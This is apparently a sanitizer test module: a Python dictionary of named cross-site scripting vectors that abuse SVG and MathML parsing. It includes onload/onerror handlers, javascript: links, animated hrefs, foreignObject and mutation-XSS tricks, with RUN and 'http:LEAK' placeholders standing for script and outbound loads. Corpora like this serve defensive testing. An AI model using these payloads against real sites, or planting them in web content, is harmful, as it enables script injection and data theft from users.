"""Drawings and formulas: elements with rules of their own, in which much of HTML means something else."""

VECTORS = {
    "drawing that loads": '<svg onload="RUN"></svg>',
    "drawing, slash for a space": "<svg/onload=RUN>",
    "script in a drawing": "<svg><script>RUN</script></svg>",
    "script in a drawing, entities": "<svg><script>&#116;op.pwned&#40;1&#41;</script></svg>",
    "script in a drawing, from outside": '<svg><script href="http:LEAK"/></svg>',
    "style in a drawing that ends in a picture": "<svg><style><img src=/no-such-picture onerror=RUN></style></svg>",
    "style in a drawing, never ended": "<svg><style><img src=/no-such-picture onerror=RUN>",
    "title in a drawing": '<svg><title><img src="/no-such-picture" onerror="RUN"></title></svg>',
    "description in a drawing": '<svg><desc><img src="/no-such-picture" onerror="RUN"></desc></svg>',
    "page in a drawing": '<svg><foreignObject><img src="/no-such-picture" onerror="RUN"></foreignObject></svg>',
    "frame in a drawing": '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
    "link in a drawing": '<svg><a href="javascript:RUN"><text y="9">read on</text></a></svg>',
    "xlink in a drawing": '<svg><a xlink:href="javascript:RUN"><text y="9">read on</text></a></svg>',
    "address set later": '<svg><a><set attributeName="href" to="javascript:RUN"/><text y="9">go</text></a></svg>',
    "address animated": '<svg><a><animate attributeName="href" values="javascript:RUN"/><text'
    ' y="9">go</text></a></svg>',
    "animation that begins": '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></svg>',
    "motion that begins": '<svg><animateTransform onbegin="RUN" attributeName="transform"></svg>',
    "motion that ends": '<svg><set onend="RUN" attributeName="x" to="1" dur="1ms"></svg>',
    "picture in a drawing": '<svg><image href="http:LEAK"></image></svg>',
    "picture in a drawing, xlink": '<svg><image xlink:href="http:LEAK"/></svg>',
    "part from outside": '<svg><use href="http:LEAK#a"></use></svg>',
    "part from data": '<svg><use href="data:image/svg+xml,<svg id=a onload=RUN xmlns=x></svg>#a"/></svg>',
    "filter from outside": '<svg><filter><feImage href="http:LEAK"/></filter></svg>',
    "shape with a handler": '<svg width="9" height="9"><rect width="9" height="9" tabindex=1 autofocus'
    ' onfocus="RUN"/></svg>',
    "style sheet for a drawing": '<?xml-stylesheet href="http:LEAK"?><svg></svg>',
    "declared entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "http:LEAK">]><svg>&y;</svg>',
    "handler element": '<svg><handler type="text/javascript">RUN</handler><listener event="load"/></svg>',
    "marked section in a drawing": "<svg><![CDATA[><img src=/no-such-picture onerror=RUN>]]></svg>",
    "drawing broken by a paragraph": '<svg><p><style><a title="</style><img src=/no-such-picture onerror=RUN>">',
    "drawing broken by a heading": '<svg></p><h2 id="a" onclick="RUN">A</h2><img src=/no-such-picture'
    " onerror=RUN></svg>",
    "drawing in a link": '<a href="/"><svg><script>RUN</script></svg>words</a>',
    "capital names": '<SVG ONLOAD="RUN"><FOREIGNOBJECT><IMG SRC=/no-such-picture ONERROR=RUN></FOREIGNOBJECT></SVG>',
    "prefixed names": '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>RUN</svg:script></svg:svg>',
    "formula with a link": '<math href="javascript:RUN"><mi>x</mi></math>',
    "formula with an xlink": '<math><mtext xlink:href="javascript:RUN">x</mtext></math>',
    "formula with an action": '<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>',
    "formula with a picture": '<math><mtext><img src="/no-such-picture" onerror="RUN"></mtext></math>',
    "formula with a style": "<math><style><img src=/no-such-picture onerror=RUN></style></math>",
    "formula with a comment": '<math><style><!--</style><img title="--><img src=/no-such-picture onerror=RUN>">',
    "formula in a table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    ' onerror=RUN&gt;">',
    "glyph and a form": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=RUN src=/no-such-picture>">',
    "malign mark": "<math><mtext><mglyph><malignmark><style><img src=/no-such-picture onerror=RUN>",
    "annotation": '<math><annotation-xml encoding="text/html"><style><img src=/no-such-picture onerror=RUN></style>'
    "</annotation-xml></math>",
    "annotation as a page": '<math><annotation-xml encoding="application/xhtml+xml"><img src="/no-such-picture"'
    ' onerror="RUN"></annotation-xml></math>',
    "annotation with a drawing": "<math><annotation-xml><svg><script>RUN</script></svg></annotation-xml></math>",
    "formula with a definition": '<math definitionurl="http:LEAK"><semantics><mi>x</mi></semantics></math>',
}
